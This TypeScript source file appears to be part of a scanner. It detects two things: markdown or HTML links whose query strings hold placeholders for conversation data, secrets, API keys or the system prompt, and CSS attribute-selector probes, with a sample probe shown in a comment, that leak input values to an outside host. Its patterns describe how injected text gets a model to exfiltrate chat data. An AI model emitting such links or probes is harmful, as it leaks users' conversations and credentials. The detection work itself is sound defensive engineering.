/** Links that wait for data of the conversation, and style sheets that spell out what stands in a field. */
import { findChain, type Chain } from '../chain.ts';
import type { Span } from './theft.ts';

const ADDRESS_MAX = 1_024;
const LINKS_MAX = 400;
/** `](https://`, `]: https://`, `href="https://`. */
const LINK = /(?:\]\(|\]: {1,4}|href\s?=\s?["']?)<?(?=https?:\/\/)/gi;
/** A place between marks, behind `=`. */
const MARK = /\{\{?|<|\[|%7b|__/gi;
const OWN =
  /(?:^|[\s_-])(?:conversation|chat|summary|history|secrets?|passwords?|api[_ -]?keys?|system[_ -]?prompt|memory|credentials?|user[_ -]?(?:query|message|data|input|question)|last[_ -]?(?:message|answer)|context|transcript|env)(?:[\s_-]|$)/i;
const CLOSER = /[}>\]]|%7d|__/i;
const PLACE_MAX = 80;
/** In capitals, as nobody writes a value. */
const CAPITALS = /^[A-Z][A-Z0-9_]{3,60}$/;
const NAMES =
  /(?:^|_)(?:CONVERSATION|CHAT|SUMMARY|HISTORY|SECRETS?|PASSWORDS?|API_KEYS?|SYSTEM_PROMPT|MEMORY|CREDENTIALS?|USER_(?:QUERY|MESSAGE|DATA|INPUT)|TRANSCRIPT)(?:_|$)/;
const INSIDE = /^https?:\/\/(?:localhost|127\.|10\.|192\.168\.|[\w-]{1,63}(?:[:/]|$))/i;

export function findLinkSlot(text: string): Span | null {
  let seen = 0;
  for (const { 0: head, index } of text.matchAll(LINK)) {
    if (++seen > LINKS_MAX) return null;
    const from = index + head.length;
    const part = text.slice(from, from + ADDRESS_MAX);
    const end = part.search(/[\n)"']/);
    const address = end < 0 ? part : part.slice(0, end);
    const query = address.search(/[?#]/);
    if (query >= 0 && !INSIDE.test(address) && hasSlot(address.slice(query))) return { start: from, end: from + address.length };
  }
  return null;
}

const VALUES_MAX = 24;

function hasSlot(query: string): boolean {
  for (const pair of query.split('&', VALUES_MAX)) {
    const value = pair.slice(pair.indexOf('=') + 1);
    if (value.length === pair.length) continue;
    if (CAPITALS.test(value.trimEnd()) && NAMES.test(value.trimEnd())) return true;
    for (const { 0: mark, index } of value.matchAll(MARK)) {
      const inside = value.slice(index + mark.length, index + mark.length + PLACE_MAX);
      const close = inside.search(CLOSER);
      if (close > 0 && OWN.test(inside.slice(0, close).trim())) return true;
    }
  }
  return false;
}

const PROBE: Chain = {
  head: /\[\s?(?:value|content|href|title|name|data-[\w-]{1,40})\s?[\^$*~|]?=/gi,
  links: [/\]/, /\{/, /url\(\s?["']?(?:https?:)?\/\//i],
  reach: 320,
  stop: /\}/,
};

/** `input[value^="a"] { background: url(//host/a) }`. */
export const findStyleProbe = (text: string): Span | null => findChain(text, PROBE);
